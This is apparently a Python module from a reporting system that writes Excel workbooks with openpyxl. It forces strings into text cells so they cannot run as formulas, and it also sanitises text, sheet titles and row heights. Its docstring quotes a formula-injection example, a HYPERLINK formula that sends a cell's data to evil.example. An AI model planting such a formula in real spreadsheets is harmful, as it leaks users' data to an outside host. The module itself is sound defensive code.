"""Text written into the workbooks sakip makes stays text.

openpyxl stores a string that starts with '=' as a formula, and one that reads as an error code
('#N/A', '#REF!') as an error value. A kendala typed as `=HYPERLINK("http://evil.example/?d="&B1,
"Lihat kendala")` would then be a live formula in the validated-data workbook attached to a
package, in a correction workbook or in a form (formula injection, OWASP's "CSV injection").

Every string written through here is a string cell (data type 's', written inline), which Excel
and LibreOffice show as typed and never evaluate, whatever it starts with: '=', '+', '-', '@', a
tab or a carriage return. A text starting with one of the characters a spreadsheet reads as the
start of a formula when they are typed also gets Excel's quote prefix, so that a reader who edits
the cell (F2, Enter) keeps it text. The text itself is kept as submitted, so that a workbook
shows what the unit wrote; only characters a worksheet cannot hold (control characters other
than tab, line feed and carriage return, unpaired surrogates, U+FFFE and U+FFFF) are written as
<U+XXXX>, and Excel's limit of 32 767 characters a cell applies.
"""

from __future__ import annotations

import math
import re
import textwrap
import zipfile
from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell, MergedCell, WriteOnlyCell
from openpyxl.utils import get_column_letter
from openpyxl.utils.cell import range_boundaries
from openpyxl.worksheet.worksheet import Worksheet

# The printed page number of every workbook sakip writes (forms, correction workbooks), as the
# documents print theirs. &P, not "&P dari &N": Calc and Excel number a workbook's pages on from
# sheet to sheet, and &N would count every sheet's pages on each.
PAGE_FOOTER = "Halaman &P"

MAX_CELL_TEXT = 32_767  # characters Excel keeps in one cell
FORMULA_STARTS = ("=", "+", "-", "@")  # OWASP: what a spreadsheet reads as a formula's start
# openpyxl's ILLEGAL_CHARACTERS_RE, and what XML 1.0 cannot carry at all.
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def cell_text(text: str) -> str:
    """`text` as a worksheet can hold it: unwritable characters shown as <U+XXXX>, cut at
    Excel's limit with the cut said."""
    text = _UNWRITABLE.sub(lambda m: f"<U+{ord(m.group()):04X}>", text)
    if len(text) > MAX_CELL_TEXT:
        note = " \u2026[dipotong]"
        text = text[:MAX_CELL_TEXT - len(note)] + note
    return text


def write(cell: Cell, value: Any) -> Cell:
    """Put `value` in `cell`: a string as a string cell (see the module), anything else as
    openpyxl writes it."""
    if not isinstance(value, str):
        cell.value = value
        return cell
    text = cell_text(value)
    cell.value = text  # openpyxl may take it for a formula ('=') or an error code ('#N/A')...
    cell.data_type = "s"  # ...it is text
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def put(ws: Any, row: int, column: int, value: Any) -> Cell:
    """ws.cell(row, column, value), with text kept text."""
    return write(ws.cell(row, column), value)


def append(ws: Any, values: Iterable[Any]) -> None:
    """ws.append(values), with text kept text; for normal and write-only worksheets."""
    ws.append([write(WriteOnlyCell(ws), v) if isinstance(v, str) else v for v in values])


# --- reading back a unit's workbook to mark it ---------------------------------------------------

EXCEL_ROWS, EXCEL_COLUMNS = 1_048_576, 16_384
_MERGE_REF = re.compile(rb'<(?:\w+:)?mergeCell\b[^>]*?\bref="([^"]+)"')
_TITLE_UNSAFE = re.compile(r"[\\*?:/\[\]\x00-\x1f\x7f]")


def merged_cells(path: Any) -> int:
    """How many cells the merged ranges of a workbook's sheets cover: openpyxl makes an object
    for each when it opens the workbook (not in read-only mode), so a range over a whole sheet
    would take it billions. Read from the sheets' XML, whose size ingest's checks bound."""
    total = 0
    with zipfile.ZipFile(path) as z:
        for info in z.infolist():
            if info.filename.startswith("xl/worksheets/") and info.filename.endswith(".xml"):
                for ref in _MERGE_REF.findall(z.read(info)):
                    try:
                        c1, r1, c2, r2 = range_boundaries(ref.decode("ascii", "replace"))
                    except (ValueError, TypeError):
                        continue
                    c1, r1, c2, r2 = c1 or 1, r1 or 1, c2 or EXCEL_COLUMNS, r2 or EXCEL_ROWS
                    total += (c2 - c1 + 1) * (r2 - r1 + 1)
    return total


def sheet_title(name: str, taken: set[str]) -> str:
    """A title Excel accepts for a sheet named from data (a CSV file's name): no []:*?/\\ or
    control characters, at most 31 characters, not starting or ending with a quote, unique
    regardless of case among `taken` (casefolded titles, to which it is added)."""
    base = _TITLE_UNSAFE.sub("_", name).strip("'")[:31] or "Sheet"
    title, n = base, 1
    while title.casefold() in taken:
        n += 1
        title = f"{base[:31 - len(str(n)) - 1]}_{n}"
    taken.add(title.casefold())
    return title


def target_cell(ws: Any, ref: str) -> Cell | None:
    """The cell a reference names in `ws`, to mark: the first cell of a range, the top-left cell
    of merged cells (the others take no value or comment); None for a reference that is no cell
    of an Excel sheet (beyond its last row or column, malformed, a whole column) or a sheet
    without cells (a chart sheet)."""
    if not isinstance(ws, Worksheet):
        return None
    try:
        col, row, _, _ = range_boundaries(ref.replace("$", "").strip())
    except (ValueError, TypeError):
        return None
    if col is None or row is None or not (1 <= row <= EXCEL_ROWS and 1 <= col <= EXCEL_COLUMNS):
        return None
    cell = ws.cell(row, col)
    if isinstance(cell, MergedCell):
        for merged in ws.merged_cells.ranges:
            if merged.min_row <= row <= merged.max_row and merged.min_col <= col <= merged.max_col:
                return ws.cell(merged.min_row, merged.min_col)
    return cell


# --- row heights: Calc keeps the default height of a row with wrapped text, and the lines overprint

LINE_POINTS = 15.0  # one line of 11 pt Calibri/Carlito, as Excel and Calc space it
DEFAULT_COLUMN_WIDTH = 8.43


def text_lines(text: str, width: float) -> int:
    """Lines `text` takes wrapped in a column `width` characters wide (a column's width counts
    '0' digits; Indonesian prose in Calibri/Carlito averages about 0,8 of one, and 1,15 keeps a
    margin for capitals and bold)."""
    chars = max(int(width * 1.15), 1)
    return sum(max(len(textwrap.wrap(part, chars, break_long_words=True, break_on_hyphens=False)), 1)
               for part in str(text).split("\n"))


def fit_row_heights(ws: Any, min_row: int = 1, line_points: float = LINE_POINTS) -> None:
    """Give each row from `min_row` with wrapped text and no height of its own the height its
    longest cell needs. A merged cell's text spreads over the merged columns; rows a merged
    range spans over are left as they are (the height to share out is the author's call)."""
    spans: dict[tuple[int, int], float] = {}
    tall: set[int] = set()
    for merged in ws.merged_cells.ranges:
        if merged.min_row == merged.max_row:
            spans[(merged.min_row, merged.min_col)] = sum(
                ws.column_dimensions[get_column_letter(c)].width or DEFAULT_COLUMN_WIDTH
                for c in range(merged.min_col, merged.max_col + 1))
        else:
            tall.update(range(merged.min_row, merged.max_row + 1))
    # Only the cells the sheet holds: iter_rows would make every cell of the used range, and a
    # unit's sheet with one value at XFD1048576 spans billions.
    need: dict[int, int] = {}
    for (r, c), cell in list(ws._cells.items()):
        if r < min_row or r in tall or not isinstance(cell.value, str) or not cell.alignment.wrap_text:
            continue
        width = spans.get((r, c))
        if width is None:
            width = ws.column_dimensions[get_column_letter(c)].width or DEFAULT_COLUMN_WIDTH
        size = (cell.font.sz or 11) / 11 if cell.font is not None else 1
        need[r] = max(need.get(r, 1), math.ceil(text_lines(cell.value, width / size) * size))
    for r, lines in need.items():
        if lines > 1 and ws.row_dimensions[r].height is None:
            ws.row_dimensions[r].height = lines * line_points
